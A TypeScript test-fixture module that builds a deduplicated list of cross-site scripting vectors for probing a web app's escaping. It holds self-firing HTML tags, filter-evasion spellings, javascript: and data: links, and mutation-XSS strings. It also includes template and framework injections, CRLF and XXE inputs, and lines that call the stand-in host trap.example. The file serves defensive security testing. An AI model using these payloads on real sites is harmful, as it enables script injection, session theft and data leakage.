/** Where a careless page would have put the text. */
export type NaiveContext =
  | "content"
  | "attribute"
  | "bare-attribute"
  | "link"
  | "script"
  | "style"
  | "title"
  | "textarea"
  | "comment"
  | "template"
  | "cdata";

/** A text that tries to become script. Had it run, it would have called `__ran` or `alert` or asked the trap for something, each time with its number. */
export type ScriptVector = {
  readonly number: number;
  readonly text: string;
  readonly context: NaiveContext;
};

/** A host that exists nowhere. */
export const TRAP_HOST = "trap.example";
/** So that three fit each short field of a trip. */
const MAX_LENGTH = 99;

type Written = readonly [context: NaiveContext, text: string];

/** Elements that act without being touched; RUN is the script. */
const SELF_STARTERS = [
  "<script>RUN</script>",
  "<img src=x onerror=RUN>",
  "<svg onload=RUN>",
  "<svg><script>RUN</script></svg>",
  "<svg><animate onbegin=RUN attributeName=x dur=1s>",
  "<body onload=RUN>",
  "<input autofocus onfocus=RUN>",
  "<details open ontoggle=RUN><summary>x</summary></details>",
  "<video><source src=x onerror=RUN></video>",
  "<iframe onload=RUN></iframe>",
  "<iframe src=javascript:RUN></iframe>",
  "<link rel=stylesheet href=x onerror=RUN>",
  "<script src=data:text/javascript,RUN></script>",
  "<x contenteditable autofocus onfocus=RUN>x</x>",
  "<button formaction=javascript:RUN autofocus onfocus=RUN>x",
] as const;

/** Ways of writing the same element so that a filter looks past it. */
const SPELLINGS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<[a-z]+|on[a-z]+=/g, mixCase),
  (html) => html.replace(" ", "/"),
  (html) => html.replaceAll(" ", "\n"),
  (html) => html.replaceAll("=RUN", "=&#95;&#x5f;&#114;an(NUM)"),
  (html) => `<!--><!-- -->${html}`,
];

/** The script's statements; the last ones reach out. */
const SCRIPTS = [
  "__ran(NUM)",
  "top['__r'+'an'](NUM)",
  "[NUM].map(__ran)",
  "Function('__ran(NUM)')()",
  "eval('__r'+'an(NUM)')",
  "alert(NUM)",
  "fetch('//trap.example/NUM')",
  "location='//trap.example/NUM'",
] as const;

/** Ends of the context a careless page puts text into. */
const BREAKS: readonly Written[] = [
  ["attribute", '">'],
  ["attribute", '&quot;>">'],
  ["bare-attribute", " >"],
  ["script", "</script>"],
  ["script", "</SCRIPT\n>"],
  ["style", "</style>"],
  ["title", "</title>"],
  ["textarea", "</textarea>"],
  ["comment", "-->"],
  ["template", "</template>"],
  ["cdata", "]]>"],
  ["content", "</p></div></body>"],
  ["content", "</noscript></xmp></iframe></svg></math></select>"],
];

/** Texts that stay inside an attribute, a script or an address. */
const INSIDE: readonly Written[] = [
  ["attribute", '" autofocus onfocus=RUN x="'],
  ["attribute", '" onanimationstart=RUN style="animation:x 1s" x="'],
  ["bare-attribute", "x autofocus onfocus=RUN"],
  ["script", '";RUN;//'],
  ["script", '"+RUN+"'],
  ["script", '\\";RUN;//'],
  ["script", '\u2028";RUN//'],
  ["script", '"}];RUN;[{"x":"'],
  ["style", "x}@import '//trap.example/NUM';x{"],
  ["style", "x}*{background:url(//trap.example/NUM)}"],
];

const LINKS = [
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  "java\tscript:RUN",
  "\u0001javascript:RUN",
  " \n javascript:RUN",
  "&#106;avascript:RUN",
  "javascript&colon;RUN",
  "java&NewLine;script&colon;RUN",
  "javascript://x%0aRUN",
  "javascript:void(0);RUN",
  "data:text/html,<script>RUN</script>",
  "data:image/svg+xml,<svg onload=RUN>",
  "vbscript:RUN",
  "feed:javascript:RUN",
  "blob:javascript:RUN",
  "ｊａｖａｓｃｒｉｐｔ:RUN",
  "//trap.example/NUM",
  "\\\\trap.example\\NUM",
  "/\\trap.example/NUM",
  "http://trap.example/NUM",
  "file://trap.example/NUM",
] as const;

/** Harmless to one parser, script to the next. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<svg></p><style><a title="</style><img src=x onerror=RUN>">',
  '<math></p><style><!--</style><img title="--><img src=x onerror=RUN>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
  "<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror=RUN>]]>",
  "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  "<select><option><style></option></select><img src=x onerror=RUN></style>",
  "<textarea><!--</textarea><img src=x onerror=RUN>-->",
  "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN/>#x'></svg>",
  "<iframe srcdoc='&lt;script&gt;parent.RUN&lt;/script&gt;'></iframe>",
  "<div style='background:url(//trap.example/NUM)'>x</div>",
  "<style>@import '//trap.example/NUM';</style>",
  "<link rel=stylesheet href=//trap.example/NUM>",
  "<meta http-equiv=refresh content='0;url=//trap.example/NUM'>",
  "<base href=//trap.example/NUM/><img src=x>",
  "<img srcset=//trap.example/NUM>",
  "<input type=image src=//trap.example/NUM>",
  "<form action=//trap.example/NUM><input name=x>",
] as const;

/** Nothing to a parser of HTML; to something that decodes, fills in or renders before it, a great deal. */
const OTHER_LANGUAGES = [
  "&lt;script&gt;RUN&lt;/script&gt;",
  "&#60;img src=x onerror=RUN&#62;",
  "%3Cscript%3ERUN%3C/script%3E",
  "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
  "+ADw-script+AD4-RUN+ADw-/script+AD4-",
  "＜script＞RUN＜/script＞",
  "<scr\u0000ipt>RUN</scr\u0000ipt>",
  "<\u200bimg src=x onerror=RUN>",
  "\u202e>RUN=rorreno x=crs gmi<\u202c",
  "<img src=x on\u2028error=RUN>",

  "![x](//trap.example/NUM)",
  '![x](x"onerror="RUN)',
  "[x](javascript:RUN)",
  "<javascript:RUN>",
  "```html\n<img src=x onerror=RUN>\n```",
  "{{constructor.constructor('RUN')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: one of the spellings tried.
  "${RUN}",
  "<%= RUN %>",
  "<div ng-app ng-init=RUN>x</div>",
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"RUN"}}',
  '"},{"type":"saved","tripId":"<img src=x onerror=RUN>"},{"x":"',
  '\n\ndata: {"type":"failed","text":"<img src=x onerror=RUN>"}\n\n',
  "\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
  "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></x>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM '//trap.example/NUM'>]><x>&y;</x>",
] as const;

/** Every vector, no text twice. */
export function scriptVectors(): ScriptVector[] {
  const shortScripts = SCRIPTS.slice(0, 4);
  const written: Written[] = [
    ...SELF_STARTERS.flatMap((html) => SPELLINGS.map((spell): Written => ["content", spell(html)])),
    ...SCRIPTS.map((script): Written => ["content", `<img src=x onerror="${script}">`]),
    ...SCRIPTS.map((script): Written => ["content", `<script>${script}</script>`]),
    ...BREAKS.flatMap(([context, end]) =>
      SELF_STARTERS.slice(0, 4).map((html): Written => [context, end + html]),
    ),
    ...INSIDE.flatMap(([context, text]) =>
      shortScripts.map((script): Written => [context, text.replaceAll("RUN", script)]),
    ),
    ...LINKS.map((link): Written => ["link", link]),
    ...LINKS.map((link): Written => ["content", `<a href="${link}">x</a>`]),
    ...MUTATIONS.map((html): Written => ["content", html]),
    ...OTHER_LANGUAGES.map((text): Written => ["content", text]),
  ];
  const known = new Set<string>();
  const vectors: ScriptVector[] = [];
  for (const [context, template] of written) {
    const number = vectors.length + 1;
    if (known.has(template)) continue;
    known.add(template);
    const text = template.replaceAll("RUN", "__ran(NUM)").replaceAll("NUM", String(number));
    if (text.length > MAX_LENGTH) throw new Error(`too long for a field: ${text}`);
    vectors.push({ number, text, context });
  }
  return vectors;
}

function mixCase(text: string): string {
  return [...text].map((letter, at) => (at % 2 === 0 ? letter : letter.toUpperCase())).join("");
}

/** Three to a text, where a test has to go to each text by itself. */
export function inThrees(texts: readonly string[]): string[] {
  return texts.flatMap((_, at) => (at % 3 === 0 ? [texts.slice(at, at + 3).join(" ")] : []));
}
